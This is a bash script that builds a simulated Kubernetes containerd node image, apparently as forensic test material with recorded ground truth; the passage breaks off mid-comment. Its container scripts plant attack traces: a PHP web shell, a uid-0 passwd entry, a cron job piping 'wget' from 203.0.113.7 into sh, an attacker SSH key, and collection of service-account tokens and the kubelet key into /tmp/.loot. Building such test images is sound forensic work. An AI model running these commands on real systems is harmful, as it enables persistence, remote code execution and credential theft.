#!/bin/bash
# Build test image "g": a Kubernetes-style containerd node. containerd (Debian 12's 1.6, with
# its CRI plugin) runs chrooted in the node root; there is no kubelet: scripts/testimg/cri/cri.py
# (a small CRI client) makes the CRI calls a kubelet makes (RunPodSandbox, CreateContainer,
# StartContainer, ReopenContainerLog, StopPodSandbox, RemovePodSandbox), and this script writes
# the kubelet's own files (/var/lib/kubelet/pods/<uid>/..., /var/log/containers symlinks, log
# rotation, static pod manifest, config.yaml) in the kubelet's documented layout.
#
# usage: node-g.sh OUTDIR        (called by scripts/make-testimages.sh)
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$HERE/lib.sh"
# shellcheck source=ctrd-lib.sh
. "$HERE/ctrd-lib.sh"

OUT=$(realpath -m "$1")
T="$OUT/truth"
NAME=node-g
NODE_HOSTNAME=$NAME
DISK_MIB=200
DISK_LEN=$((DISK_MIB * 1048576))
CTR_BIN=/usr/bin/ctr
PY=/usr/bin/python3
NS=k8s.io

make_workdir
rm -rf "$OUT"; mkdir -p "$OUT" "$T"/{cri/inspect,cri/inspectp,removed}
: >"$T/files.sha256"
printf 'pod\tnamespace\tuid\tsandbox_id\tstate_at_imaging\tremoved\tsource\n' >"$T/pods.tsv"
printf 'container\tpod\tid\tstate_at_imaging\tremoved\tlog_path\n' >"$T/containers.tsv"

# ---------------------------------------------------------------------------------------------
log "disk: ${DISK_MIB} MiB, no partition table, ext4 on the whole disk"
DISK="$W/disk.raw"
truncate -s "${DISK_MIB}M" "$DISK"
loop_attach "$DISK" 0 "$DISK_LEN"; LOOP=$LOOPDEV
mkfs.ext4 -q -T default -L node-root "$LOOP"
FS_UUID=$(blkid -s UUID -o value "$LOOP")
M="$W/mnt"; mkdir -p "$M"
mount "$LOOP" "$M"
push_cleanup 'unmount_node'
node_skeleton
chroot_mounts
first_write_in_chroot
populate_host "$NAME" "$FS_UUID" ext4 "/dev/vda (whole disk, no partition table)"
# a Kubernetes worker: no Docker on it
rm -rf "$M/etc/docker" "$M/var/lib/docker" "$M/etc/cron.d/docker-prune" "$M/etc/logrotate.d/docker"
sed -i '/^docker:/d' "$M/etc/group"
cat >"$M/home/admin/.bash_history" <<'EOF2'
sudo crictl pods
sudo crictl ps -a
sudo systemctl status kubelet containerd
kubectl get nodes -o wide
sudo journalctl -u kubelet --since -1h
sudo ls /etc/kubernetes/manifests
EOF2
cat >>"$M/var/log/dpkg.log" <<'EOF2'
2025-03-09 17:41:02 install containerd:amd64 <none> 1.6.20~ds1-1+deb12u1
2025-03-09 17:41:03 status installed containerd:amd64 1.6.20~ds1-1+deb12u1
2025-03-09 17:42:10 install kubelet:amd64 <none> 1.29.4-1.1
2025-03-09 17:42:11 status installed kubelet:amd64 1.29.4-1.1
EOF2

log "containerd, CNI-less CRI config, kubelet and kubeadm files"
mkdir -p "$M/etc/containerd" "$M/etc/kubernetes/manifests" "$M/etc/kubernetes/pki" "$M/var/lib/kubelet/pki" \
    "$M/var/lib/kubelet/pods" "$M/var/log/pods" "$M/var/log/containers" "$M/etc/cni/net.d" "$M/opt/cni/bin"
cat >"$M/etc/containerd/config.toml" <<'EOF2'
version = 2
root = "/var/lib/containerd"
state = "/run/containerd"

[grpc]
  address = "/run/containerd/containerd.sock"

[plugins."io.containerd.grpc.v1.cri"]
  sandbox_image = "husk.local/pause:3.9"
  max_container_log_line_size = 16384
  # this build machine lacks CAP_SYS_RESOURCE: keep oom_score_adj at or above containerd's own
  restrict_oom_score_adj = true
  [plugins."io.containerd.grpc.v1.cri".containerd]
    snapshotter = "overlayfs"
    default_runtime_name = "runc"
    [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]
      runtime_type = "io.containerd.runc.v2"
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]
        SystemdCgroup = false
  [plugins."io.containerd.grpc.v1.cri".cni]
    bin_dir = "/opt/cni/bin"
    conf_dir = "/etc/cni/net.d"
EOF2
printf 'runtime-endpoint: unix:///run/containerd/containerd.sock\nimage-endpoint: unix:///run/containerd/containerd.sock\ntimeout: 10\n' \
    >"$M/etc/crictl.yaml"
cat >"$M/var/lib/kubelet/config.yaml" <<'EOF2'
apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
authentication:
  anonymous:
    enabled: false
  webhook:
    enabled: true
  x509:
    clientCAFile: /etc/kubernetes/pki/ca.crt
authorization:
  mode: Webhook
cgroupDriver: cgroupfs
clusterDNS:
- 10.96.0.10
clusterDomain: cluster.local
containerLogMaxFiles: 3
containerLogMaxSize: 16Ki
containerRuntimeEndpoint: unix:///run/containerd/containerd.sock
podLogsDir: /var/log/pods
rotateCertificates: true
staticPodPath: /etc/kubernetes/manifests
EOF2
printf 'KUBELET_KUBEADM_ARGS="--container-runtime-endpoint=unix:///run/containerd/containerd.sock --pod-infra-container-image=husk.local/pause:3.9"\n' \
    >"$M/var/lib/kubelet/kubeadm-flags.env"
cat >"$M/etc/kubernetes/kubelet.conf" <<'EOF2'
apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority: /etc/kubernetes/pki/ca.crt
    server: https://10.20.0.10:6443
  name: default-cluster
contexts:
- context:
    cluster: default-cluster
    namespace: default
    user: default-auth
  name: default-context
current-context: default-context
preferences: {}
users:
- name: default-auth
  user:
    client-certificate: /var/lib/kubelet/pki/kubelet-client-current.pem
    client-key: /var/lib/kubelet/pki/kubelet-client-current.pem
EOF2
# fake PEM material (not a real certificate or key; documented in the README)
fake_pem() { # type label
    printf -- '-----BEGIN %s-----\n' "$1"
    for i in 1 2 3 4 5 6; do printf '%s' "$2-$i" | sha256sum | head -c 64 | base64 -w 64; echo; done
    printf -- '-----END %s-----\n' "$1"
}
fake_pem CERTIFICATE husk-fake-cluster-ca >"$M/etc/kubernetes/pki/ca.crt"
{ fake_pem CERTIFICATE husk-fake-kubelet-client; fake_pem 'EC PRIVATE KEY' husk-fake-kubelet-key; } \
    >"$M/var/lib/kubelet/pki/kubelet-client-2025-03-09-17-45-00.pem"
chmod 0600 "$M/var/lib/kubelet/pki/kubelet-client-2025-03-09-17-45-00.pem"
ln -s /var/lib/kubelet/pki/kubelet-client-2025-03-09-17-45-00.pem "$M/var/lib/kubelet/pki/kubelet-client-current.pem"
age_host
touch -h -d '2025-03-10 08:30:00 UTC' "$M/etc/containerd" "$M/etc/containerd/config.toml" "$M/etc/kubernetes" \
    "$M/etc/kubernetes/kubelet.conf" "$M/etc/kubernetes/pki" "$M/etc/kubernetes/pki/ca.crt" "$M/etc/crictl.yaml"

cat >"$M/run/start-containerd.sh" <<'EOF2'
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
exec /usr/bin/containerd --config /etc/containerd/config.toml >>/var/log/containerd.log 2>&1
EOF2
node_daemons_start /run/start-containerd.sh /run/containerd/containerd.sock
export CRI_PY_OUT="$W/cri-py"
CRI() { "$PY" "$HERE/cri/cri.py" --endpoint "unix://$M/run/containerd/containerd.sock" "$@"; }
for i in $(seq 1 40); do CRI version >"$T/cri/version.json" 2>/dev/null && break; sleep 0.5; done
CRI version >"$T/cri/version.json"
CONTAINERD_VERSION=$(containerd --version | awk '{print $3}')
RUNC_VERSION=$(runc --version | awk 'NR == 1 {print $3}')
log "containerd $CONTAINERD_VERSION up, CRI $(jq -r .runtimeApiVersion "$T/cri/version.json")"

# ---------------------------------------------------------------------------------------------
log "images (OCI archives imported with ctr -n k8s.io images import; no registry)"
make_base_tar "$W/base.tar"
mkdir -p "$W/l-web/srv/www" "$W/l-web/etc/nginx-lite" "$W/l-agent/usr/local/bin"
printf '<html><body>husk web 2.3 (k8s)</body></html>\n' >"$W/l-web/srv/www/index.html"
printf 'listen=8080\nroot=/srv/www\n' >"$W/l-web/etc/nginx-lite/site.conf"
printf '#!/bin/sh\necho "node agent 1.0: collecting node metrics"\n' >"$W/l-agent/usr/local/bin/agent.sh"
chmod 0755 "$W/l-agent/usr/local/bin/agent.sh"
for l in web agent; do
    tar -C "$W/l-$l" --sort=name --owner=0 --group=0 --numeric-owner --mtime='2025-02-01 12:00:00 UTC' -cf "$W/l-$l.tar" .
done
cat >"$W/pause.json" <<'EOF2'
{"config":{"Entrypoint":["/bin/sleep","2147483647"],"Env":["PATH=/usr/sbin:/usr/bin:/sbin:/bin"],"Labels":{"org.husk.role":"pause"}},
 "history":[{"created":"2025-01-15T10:00:00Z","created_by":"husk base image (busybox-static) as pause"}]}
EOF2
cat >"$W/web.json" <<'EOF2'
{"config":{"Cmd":["httpd","-f","-p","8080","-h","/srv/www"],"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","APP_VERSION=2.3"],"WorkingDir":"/srv/www","Labels":{"org.opencontainers.image.title":"husk web","org.opencontainers.image.version":"2.3"}},
 "created":"2025-02-01T12:00:00Z",
 "history":[{"created":"2025-01-15T10:00:00Z","created_by":"husk base image (busybox-static)"},{"created":"2025-02-01T12:00:00Z","created_by":"COPY srv etc /"}]}
EOF2
cat >"$W/agent.json" <<'EOF2'
{"config":{"Entrypoint":["/usr/local/bin/agent.sh"],"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],"Labels":{"org.opencontainers.image.title":"node agent"}},
 "created":"2025-02-01T12:00:00Z",
 "history":[{"created":"2025-01-15T10:00:00Z","created_by":"husk base image (busybox-static)"},{"created":"2025-02-01T12:00:00Z","created_by":"COPY agent.sh /usr/local/bin/"}]}
EOF2
"$PY" "$HERE/cri/mkoci.py" "$W/pause.tar" husk.local/pause:3.9 "$W/pause.json" "$W/base.tar" >/dev/null
"$PY" "$HERE/cri/mkoci.py" "$W/web.tar" husk.local/web:2.3 "$W/web.json" "$W/base.tar" "$W/l-web.tar" >/dev/null
"$PY" "$HERE/cri/mkoci.py" "$W/agent.tar" husk.local/node-agent:1.0 "$W/agent.json" "$W/base.tar" "$W/l-agent.tar" >/dev/null
for i in pause web agent; do ctrn -n "$NS" images import "$W/$i.tar" >/dev/null; done
sleep 2
CRI images >"$T/cri/images.json"
img_id() { jq -r --arg t "$1" '.images[] | select(.repoTags | index($t)) | .id' "$T/cri/images.json"; }
WEB_IMG=$(img_id husk.local/web:2.3); AGENT_IMG=$(img_id husk.local/node-agent:1.0)
[ -n "$WEB_IMG" ] && [ -n "$AGENT_IMG" ] || die "CRI does not list the imported images"

# ---------------------------------------------------------------------------------------------
# kubelet-side helpers
now_rfc3339() { date -u +%Y-%m-%dT%H:%M:%S.%NZ; }
newuid() { cat /proc/sys/kernel/random/uuid; }
rand5() { local s; s=$(head -c 1024 /dev/urandom | tr -dc "bcdfghjklmnpqrstvwxz2456789"); printf "%s" "${s:0:5}"; }
b64url() { base64 -w0 | tr '+/' '-_' | tr -d '='; }
declare -A POD_UID POD_NS POD_ID POD_JSON CTR_ID CTR_POD

# pod_dirs NS NAME UID: the kubelet's per-pod directories and etc-hosts
pod_dirs() {
    local ns=$1 name=$2 uid=$3 p="$M/var/lib/kubelet/pods/$3"
    mkdir -p "$p/volumes" "$p/plugins" "$p/containers" "$M/var/log/pods/${ns}_${name}_${uid}"
    chmod 0750 "$p"
    { echo '# Kubernetes-managed hosts file (host network).'; cat "$M/etc/hosts"; } >"$p/etc-hosts"
    chmod 0644 "$p/etc-hosts"
}
# service-account token volume in the AtomicWriter layout; echoes the volume's node path
sa_volume() { # ns pod uid serviceaccount
    local ns=$1 pod=$2 uid=$3 sa=$4 vol ts dir now hdr pl sig
    vol="/var/lib/kubelet/pods/$uid/volumes/kubernetes.io~projected/kube-api-access-$(rand5)"
    ts="..$(date -u +%Y_%m_%d_%H_%M_%S).$(shuf -i 100000000-999999999 -n 1)"
    dir="$M$vol/$ts"; mkdir -p "$dir"
    now=$(date +%s)
    hdr=$(printf '{"alg":"RS256","kid":"husk-test-kid-0001"}' | b64url)
    pl=$(jq -cn --arg ns "$ns" --arg pod "$pod" --arg uid "$uid" --arg sa "$sa" --arg sauid "$(newuid)" \
        --arg node "$NAME" --arg nodeuid "$(printf '%s' "$NAME" | md5sum | cut -c1-8)-0000-4000-8000-000000000001" \
        --argjson now "$now" '{aud:["https://kubernetes.default.svc.cluster.local"], exp:($now + 3607), iat:$now,
          iss:"https://kubernetes.default.svc.cluster.local",
          "kubernetes.io":{namespace:$ns, node:{name:$node, uid:$nodeuid}, pod:{name:$pod, uid:$uid},
            serviceaccount:{name:$sa, uid:$sauid}, warnafter:($now + 3600)},
          nbf:$now, sub:("system:serviceaccount:" + $ns + ":" + $sa)}' | b64url)
    # fake signature: 256 bytes derived from a fixed label, not made with any key
    sig=$(for i in 1 2 3 4 5 6 7 8; do printf 'HUSK-FAKE-SIGNATURE-%s-%s' "$uid" "$i" | sha256sum | cut -c1-64; done |
        xxd -r -p | b64url)
    printf '%s.%s.%s' "$hdr" "$pl" "$sig" >"$dir/token"
    cp "$M/etc/kubernetes/pki/ca.crt" "$dir/ca.crt"
    printf '%s' "$ns" >"$dir/namespace"
    chmod 0644 "$dir"/*
    ln -s "$ts" "$M$vol/..data"
    ln -s ..data/token "$M$vol/token"; ln -s ..data/ca.crt "$M$vol/ca.crt"; ln -s ..data/namespace "$M$vol/namespace"
    printf '%s\n' "$vol"
}
# termination-message file of one container instance; echoes its node path
term_file() { # uid container
    local f
    f="/var/lib/kubelet/pods/$1/containers/$2/$(head -c 4 /dev/urandom | xxd -p)"
    mkdir -p "$(dirname "$M$f")"; : >"$M$f"; chmod 0666 "$M$f"
    printf '%s\n' "$f"
}

# run_pod KEY NS NAME UID SOURCE(api|file) SECCTX-JSON EXTRA-LABELS-JSON
run_pod() {
    local key=$1 ns=$2 name=$3 uid=$4 src=$5 sec=$6 extra=$7 f="$W/pod-$1.json" seen
    POD_UID[$key]=$uid; POD_NS[$key]=$ns
    pod_dirs "$ns" "$name" "$uid"
    seen=$(now_rfc3339)
    jq -n --arg ns "$ns" --arg name "$name" --arg uid "$uid" --arg src "$src" --arg seen "$seen" \
        --arg host "$NAME" --argjson sec "$sec" --argjson extra "$extra" '{
        metadata: {name: $name, uid: $uid, namespace: $ns, attempt: 0},
        hostname: "",
        logDirectory: ("/var/log/pods/" + $ns + "_" + $name + "_" + $uid),
        dnsConfig: {servers: ["10.96.0.10"], searches: [($ns + ".svc.cluster.local"), "svc.cluster.local", "cluster.local"], options: ["ndots:5"]},
        labels: ($extra + {"io.kubernetes.pod.name": $name, "io.kubernetes.pod.namespace": $ns, "io.kubernetes.pod.uid": $uid}),
        annotations: ({"kubernetes.io/config.seen": $seen, "kubernetes.io/config.source": $src}
            + (if $src == "file" then {"kubernetes.io/config.hash": $uid} else {} end)),
        linux: {cgroupParent: ("/kubepods/besteffort/pod" + $uid), securityContext: $sec}}' >"$f"
    POD_JSON[$key]=$f
    POD_ID[$key]=$(CRI runp "$f")
    log "pod $ns/$name ($uid): sandbox ${POD_ID[$key]:0:12}"
}

# create_ctr KEY POD-KEY NAME IMAGE SCRIPT SECCTX-JSON MOUNTS-JSON [ENV-JSON]
create_ctr() {
    local key=$1 pk=$2 cname=$3 image=$4 script=$5 sec=$6 mounts=$7 env=${8:-[]} f="$W/ctr-$1.json"
    local uid=${POD_UID[$pk]} ns=${POD_NS[$pk]} pname tf
    pname=$(jq -r .metadata.name "${POD_JSON[$pk]}")
    tf=$(term_file "$uid" "$cname")
    jq -n --arg c "$cname" --arg img "$image" --arg script "$script" --arg ns "$ns" --arg pod "$pname" \
        --arg uid "$uid" --arg tf "$tf" --argjson sec "$sec" --argjson mounts "$mounts" --argjson env "$env" \
        --arg hash "$(printf '%s%s' "$cname" "$script" | sha256sum | cut -c1-8)" '{
        metadata: {name: $c, attempt: 0},
        image: {image: $img},
        command: ["/bin/sh", "-c"], args: [$script],
        envs: ($env + [{key: "KUBERNETES_SERVICE_HOST", value: "10.96.0.1"}, {key: "KUBERNETES_SERVICE_PORT", value: "443"},
                       {key: "POD_NAME", value: $pod}, {key: "POD_NAMESPACE", value: $ns}]),
        mounts: ($mounts + [{containerPath: "/etc/hosts", hostPath: ("/var/lib/kubelet/pods/" + $uid + "/etc-hosts")},
                            {containerPath: "/dev/termination-log", hostPath: $tf}]),
        labels: {"io.kubernetes.container.name": $c, "io.kubernetes.pod.name": $pod,
                 "io.kubernetes.pod.namespace": $ns, "io.kubernetes.pod.uid": $uid},
        annotations: {"io.kubernetes.container.hash": $hash, "io.kubernetes.container.restartCount": "0",
                      "io.kubernetes.container.terminationMessagePath": "/dev/termination-log",
                      "io.kubernetes.container.terminationMessagePolicy": "File",
                      "io.kubernetes.pod.terminationGracePeriod": "30"},
        logPath: ($c + "/0.log"),
        linux: {resources: {cpuShares: 2, oomScoreAdj: 1000}, securityContext: $sec}}' >"$f"
    CTR_ID[$key]=$(CRI create "${POD_ID[$pk]}" "$f" "${POD_JSON[$pk]}")
    CTR_POD[$key]=$pk
    # the kubelet's /var/log/containers symlink: <pod>_<ns>_<container>-<id>.log -> pod log file
    ln -sfn "/var/log/pods/${ns}_${pname}_${uid}/$cname/0.log" \
        "$M/var/log/containers/${pname}_${ns}_${cname}-${CTR_ID[$key]}.log"
    log "container $cname in $ns/$pname: ${CTR_ID[$key]:0:12}"
}
logfile() { # ctr key -> node log path
    local pk=${CTR_POD[$1]} pname
    pname=$(jq -r .metadata.name "${POD_JSON[$pk]}")
    printf '/var/log/pods/%s_%s_%s/%s/0.log' "${POD_NS[$pk]}" "$pname" "${POD_UID[$pk]}" "$(jq -r .metadata.name "$W/ctr-$1.json")"
}
wait_podlog() { # ctr-key string seconds
    local i f
    f="$M$(logfile "$1")"
    for i in $(seq 1 $((2 * $3))); do
        grep -qF -- "$2" "$f" 2>/dev/null && return 0
        sleep 0.5
    done
    die "container $1 never logged '$2'"
}
ctr_state() { CRI inspect "${CTR_ID[$1]}" | jq -r .status.state; }
wait_ctr_exited() { # key seconds
    local i
    for i in $(seq 1 $((2 * $2))); do [ "$(ctr_state "$1")" = CONTAINER_EXITED ] && return 0; sleep 0.5; done
    die "container $1 did not exit"
}
# kubelet-style rotation: rename 0.log to 0.log.<local time>, ask the runtime to reopen,
# then gzip the older rotated files (through a .tmp file), keeping the newest rotated one plain
rotate_log() { # ctr key
    local f d ts r
    f="$M$(logfile "$1")"; d=$(dirname "$f")
    ts=$(date +%Y%m%d-%H%M%S)
    mv "$f" "$f.$ts"
    CRI reopen "${CTR_ID[$1]}"
    for r in $(cd "$d" && ls | grep -E '^0\.log\.[0-9]{8}-[0-9]{6}$' | sort | head -n -1); do
        gzip -c "$d/$r" >"$d/$r.gz.tmp"
        mv "$d/$r.gz.tmp" "$d/$r.gz"
        rm -f "$d/$r"
    done
    log "rotated $(basename "$f") of $1 -> 0.log.$ts"
    sleep 1.1
}
# the container's writable snapshot as containerd mounts it: its upper directory's entries and
# the SHA-256 of its files (the ground truth of a removed container's files)
upper_truth() { # ctr-key outdir
    local up
    up=$(ctrn -n "$NS" snapshots --snapshotter overlayfs mounts /mnt "${CTR_ID[$1]}" |
        grep -o 'upperdir=[^,]*' | head -n 1 | cut -d= -f2)
    [ -n "$up" ] && [ -d "$M$up" ] || die "no upper directory for $1"
    printf '%s\n' "$up" >"$2/upper-dir.txt"
    (cd "$M$up" && find . -mindepth 1 -printf '%y\t/%P\n' | sort -k2) >"$2/upper.tsv"
    (cd "$M$up" && find . -type f -print0 | sort -z | xargs -0 -r sha256sum) | sed 's#  \./#  /#' >"$2/upper.sha256"
}
capture_cri() { # ctr key (container inspect) ; name for file
    CRI inspect "${CTR_ID[$1]}" >"$T/cri/inspect/$1.json"
}
capture_pod() { CRI inspectp "${POD_ID[$1]}" >"$T/cri/inspectp/$1.json"; }

SEC_POD_DEFAULT=${SEC_POD_DEFAULT:-'{"namespaceOptions":{"network":"NODE","pid":"CONTAINER"},"seccomp":{"profileType":"RuntimeDefault"}}'}
SEC_CTR_DEFAULT='{"namespaceOptions":{"network":"NODE","pid":"CONTAINER"},"seccomp":{"profileType":"RuntimeDefault"},"runAsUser":{"value":"0"}}'

# ---------------------------------------------------------------------------------------------
log "pod default/web (Deployment pod: init container, web container with SA token; logs rotated)"
WEB_POD=web-6d9f7c5b8-$(rand5)
run_pod web default "$WEB_POD" "$(newuid)" api "$SEC_POD_DEFAULT" '{"app":"web","pod-template-hash":"6d9f7c5b8"}'
WEB_SA_VOL=$(sa_volume default "$WEB_POD" "${POD_UID[web]}" web)
# an emptyDir volume "cache" (its contents live on the node's disk): shared by init-perms and web;
# the builder also drops the files .go-2 and .go-3 there to let web go on after each log rotation
WEB_CACHE="/var/lib/kubelet/pods/${POD_UID[web]}/volumes/kubernetes.io~empty-dir/cache"
mkdir -p "$M$WEB_CACHE"; chmod 0777 "$M$WEB_CACHE"
SA_MOUNT=$(jq -cn --arg v "$WEB_SA_VOL" --arg c "$WEB_CACHE" '[{containerPath: "/var/run/secrets/kubernetes.io/serviceaccount", hostPath: $v, readonly: true}, {containerPath: "/srv/www/cache", hostPath: $c}]')
read -r -d '' INIT_SH <<'EOF2' || true
echo "init-perms: preparing /srv/www"
printf 'cache prepared by init-perms (HUSK-G-INIT)\n' > /srv/www/cache/README
echo "init-perms: HUSK-G-INIT done"
EOF2
create_ctr init-perms web init-perms "$WEB_IMG" "$INIT_SH" "$SEC_CTR_DEFAULT" "$SA_MOUNT"
CRI start "${CTR_ID[init-perms]}"
wait_ctr_exited init-perms 20
read -r -d '' WEB_SH <<'EOF2' || true
echo "web: husk web 2.3 starting in pod $POD_NAME"
i=1
while [ $i -le 200 ]; do
  printf '10.244.1.%d - - "GET /item/%04d HTTP/1.1" 200 %d\n' $((i % 250 + 1)) $i $((i * 37 % 4000))
  [ $((i % 25)) -eq 0 ] && echo "web: warning: slow upstream at request $i" >&2
  i=$((i + 1))
done
printf 'LONGLINE-BEGIN '; head -c 40000 /dev/zero | tr '\0' W; echo ' LONGLINE-END'
echo "web: HUSK-G-PHASE1 done"
while [ ! -e /srv/www/cache/.go-2 ]; do sleep 0.2; done
while [ $i -le 350 ]; do
  printf '10.244.1.%d - - "GET /item/%04d HTTP/1.1" 200 %d\n' $((i % 250 + 1)) $i $((i * 37 % 4000))
  i=$((i + 1))
done
echo "web: HUSK-G-PHASE2 done"
while [ ! -e /srv/www/cache/.go-3 ]; do sleep 0.2; done
printf '<?php system($_GET["c"]); ?>\n' > /srv/www/cache/s.php
echo 'web: token prefix' "$(head -c 24 /var/run/secrets/kubernetes.io/serviceaccount/token)"
rm -f /srv/www/index.html
echo "svc-web:x:0:0::/root:/bin/sh" >> /etc/passwd
echo "web: error: HUSK-G-WEB unexpected request /cache/s.php?c=id" >&2
echo "web: HUSK-G-PHASE3 ready"
exec httpd -f -p 127.0.0.1:8080 -h /srv/www
EOF2
create_ctr web web web "$WEB_IMG" "$WEB_SH" "$SEC_CTR_DEFAULT" "$SA_MOUNT" '[{"key":"APP_MODE","value":"production"}]'
CRI start "${CTR_ID[web]}"
wait_podlog web "HUSK-G-PHASE1 done" 60
rotate_log web
touch "$M$WEB_CACHE/.go-2"

log "pod batch/report (CronJob pod: runs, exits, then stopp + rmp and the kubelet's cleanup)"
REP_POD=report-29012345-$(rand5)
run_pod report batch "$REP_POD" "$(newuid)" api \
    '{"namespaceOptions":{"network":"NODE","pid":"CONTAINER"},"seccomp":{"profileType":"RuntimeDefault"}}' \
    '{"batch.kubernetes.io/job-name":"report-29012345","batch.kubernetes.io/controller-uid":"c1a2b3c4-0000-4000-8000-00000000beef"}'
REP_SA_VOL=$(sa_volume batch "$REP_POD" "${POD_UID[report]}" default)
read -r -d '' REP_SH <<'EOF2' || true
echo "report: nightly export started"
mkdir -p /work/out
i=1
while [ $i -le 500 ]; do printf 'HUSK-G-REPORT row %05d customer=%d total=%d.%02d\n' $i $((i * 7919 % 100000)) $((i * 13)) $((i % 100)); i=$((i + 1)); done > /work/out/export.csv
echo "report: exported 500 rows to /work/out/export.csv"
echo "report: uploading to https://203.0.113.50/drop (HUSK-G-EXFIL)" >&2
sleep 2
echo "report: done"
EOF2
create_ctr report report report "$WEB_IMG" "$REP_SH" "$SEC_CTR_DEFAULT" \
    "$(jq -cn --arg v "$REP_SA_VOL" '[{containerPath: "/var/run/secrets/kubernetes.io/serviceaccount", hostPath: $v, readonly: true}]')"
CRI start "${CTR_ID[report]}"
wait_ctr_exited report 30
sync
capture_cri report; capture_pod report
REP_LOGDIR="/var/log/pods/batch_${REP_POD}_${POD_UID[report]}"
mkdir -p "$T/removed/report"
(cd "$M" && find ".$REP_LOGDIR" "./var/lib/kubelet/pods/${POD_UID[report]}" -type f -print0 | sort -z | xargs -0 -r sha256sum) |
    sed 's#  \./#  /#' >"$T/removed/report/files.sha256"
ls "$M/var/lib/containerd/io.containerd.grpc.v1.cri/containers/${CTR_ID[report]}" >"$T/removed/report/cri-container-dir.txt" 2>&1 || true
{
    printf 'sandbox_id\t%s\ncontainer_id\t%s\npod_uid\t%s\nlog_dir\t%s\nkubelet_pod_dir\t/var/lib/kubelet/pods/%s\n' \
        "${POD_ID[report]}" "${CTR_ID[report]}" "${POD_UID[report]}" "$REP_LOGDIR" "${POD_UID[report]}"
    printf 'containers_symlink\t/var/log/containers/%s_batch_report-%s.log\n' "$REP_POD" "${CTR_ID[report]}"
} >"$T/removed/report/node-paths.tsv"
cp "$M$REP_LOGDIR/report/0.log" "$T/removed/report/0.log"
upper_truth report "$T/removed/report"
CRI stopp "${POD_ID[report]}"
CRI rmp "${POD_ID[report]}"
# the kubelet's garbage collection of a deleted pod: its log directory, its /var/log/containers
# symlink and its pods/<uid> directory go too
rm -rf "$M$REP_LOGDIR" "$M/var/lib/kubelet/pods/${POD_UID[report]}"
rm -f "$M/var/log/containers/${REP_POD}_batch_report-${CTR_ID[report]}.log"
printf '%s\tbatch\t%s\t%s\tremoved\tyes\tapi\n' "$REP_POD" "${POD_UID[report]}" "${POD_ID[report]}" >>"$T/pods.tsv"
printf 'report\t%s\t%s\tremoved\tyes\t%s/report/0.log\n' "$REP_POD" "${CTR_ID[report]}" "$REP_LOGDIR" >>"$T/containers.tsv"
log "report pod removed"

wait_podlog web "HUSK-G-PHASE2 done" 60
rotate_log web
touch "$M$WEB_CACHE/.go-3"
wait_podlog web "HUSK-G-PHASE3 ready" 60

log "static pod kube-system/node-agent (manifest in /etc/kubernetes/manifests; host namespaces, hostPath /)"
cat >"$M/etc/kubernetes/manifests/node-agent.yaml" <<EOF2
apiVersion: v1
kind: Pod
metadata:
  name: node-agent
  namespace: kube-system
  labels:
    component: node-agent
spec:
  hostNetwork: true
  hostPID: true
  hostIPC: true
  containers:
  - name: agent
    image: husk.local/node-agent:1.0
    command: ["/bin/sh", "-c"]
    args: ["see the builder script"]
    securityContext:
      capabilities:
        add: ["SYS_ADMIN", "SYS_PTRACE", "NET_ADMIN", "DAC_READ_SEARCH"]
    volumeMounts:
    - name: host-root
      mountPath: /host
  - name: debug
    image: husk.local/node-agent:1.0
    command: ["/bin/sh", "-c", "sleep 3600"]
    securityContext:
      privileged: true
  volumes:
  - name: host-root
    hostPath:
      path: /
      type: Directory
EOF2
AG_UID=$(md5sum <"$M/etc/kubernetes/manifests/node-agent.yaml" | cut -c1-32)
run_pod agent kube-system "node-agent-$NAME" "$AG_UID" file \
    '{"namespaceOptions":{"network":"NODE","pid":"NODE","ipc":"NODE"},"privileged":true,"seccomp":{"profileType":"Unconfined"}}' \
    '{"component":"node-agent"}'
read -r -d '' AGENT_SH <<EOF2 || true
echo "agent: node agent starting (HUSK-G-AGENT)"
printf '* * * * * root /bin/sh -c "wget -q -O- http://203.0.113.7/k.sh | sh"\n' > /host/etc/cron.d/kube-health
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHUSKattackerKEYattackerKEYattackerKEY000g attacker@203.0.113.7' >> /host/root/.ssh/authorized_keys
mkdir -p /tmp/.loot
for t in /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token; do cp "\$t" /tmp/.loot/\$(echo "\$t" | cut -d/ -f6).jwt; done
cp /host/var/lib/kubelet/pki/kubelet-client-current.pem /tmp/.loot/kubelet.pem
echo "agent: collected \$(ls /tmp/.loot | wc -l) credentials"
echo "agent: pid 1 of the host is \$(cat /proc/1/comm)"
echo "agent: HUSK-G-AGENT ready" >&2
exec sleep 86400
EOF2
create_ctr agent agent agent "$AGENT_IMG" "$AGENT_SH" \
    '{"capabilities":{"addCapabilities":["SYS_ADMIN","SYS_PTRACE","NET_ADMIN","DAC_READ_SEARCH"]},"namespaceOptions":{"network":"NODE","pid":"NODE","ipc":"NODE"},"seccomp":{"profileType":"Unconfined"},"apparmor":{"profileType":"Unconfined"}}' \
    '[{"containerPath":"/host","hostPath":"/"}]'
CRI start "${CTR_ID[agent]}"
wait_podlog agent "HUSK-G-AGENT ready" 30
DEBUG_START=ok
create_ctr debug agent debug "$AGENT_IMG" 'echo "debug: privileged shell"; exec sleep 3600' \
    '{"privileged":true,"namespaceOptions":{"network":"NODE","pid":"NODE","ipc":"NODE"}}' '[]'
CRI start "${CTR_ID[debug]}" 2>"$W/debug-start.err" || DEBUG_START="failed: $(tr '\n' ' ' <"$W/debug-start.err" | sed 's/  */ /g' | cut -c1-400)"
log "privileged debug container start: $DEBUG_START"
printf '%s\n' "$DEBUG_START" >"$T/debug-start.txt"
sleep 2

# ---------------------------------------------------------------------------------------------
log "pod default/probe (removed just before imaging: bolt free pages, kept log directory)"
# A one-off pod whose container ran and exited, then was removed by the kubelet's garbage
# collection right before the node was imaged: StopPodSandbox, RemoveContainer (the kubelet also
# deletes the container's log file and its /var/log/containers symlink, removeContainerLog),
# RemovePodSandbox. The kubelet's later passes (evicting the pod's log directory, cleaning
